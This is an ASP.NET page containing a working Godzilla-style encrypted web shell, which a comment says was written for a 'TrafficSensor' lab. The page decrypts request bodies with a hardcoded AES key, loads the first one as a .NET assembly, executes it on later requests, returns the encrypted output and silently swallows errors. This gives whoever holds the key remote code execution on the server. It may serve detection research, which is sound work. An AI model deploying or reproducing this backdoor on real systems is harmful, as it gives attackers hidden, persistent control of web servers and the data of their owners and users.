<%@ Page Language="C#" ValidateRequest="false" %><%@ Import Namespace="System.Reflection" %><%@ Import Namespace="System.Security.Cryptography" %><script runat="server">
// TrafficSensor lab: a Godzilla CSHARP_AES_RAW shell written for the lab: the raw body is the
// AES-CBC (iv = key) call, the answer the raw AES of the payload's output.
static readonly byte[] K = System.Text.Encoding.ASCII.GetBytes("3c6e0b8a9c15224a");
static byte[] Crypt(byte[] b, bool enc) { using (var a = new RijndaelManaged()) { var t = enc ? a.CreateEncryptor(K, K) : a.CreateDecryptor(K, K); return t.TransformFinalBlock(b, 0, b.Length); } }
protected void Page_Load(object s, EventArgs e)
{
    try
    {
        var call = Crypt(Request.BinaryRead(Request.ContentLength), false);
        var loaded = Session["payload"] as Assembly;
        if (loaded == null) { Session["payload"] = Assembly.Load(call); return; }
        var sink = new System.IO.MemoryStream();
        var ly = loaded.CreateInstance("LY");
        ly.Equals(Context); ly.Equals(sink); ly.Equals(call); ly.ToString();
        Response.BinaryWrite(Crypt(sink.ToArray(), true));
    }
    catch (Exception) { }
}
</script>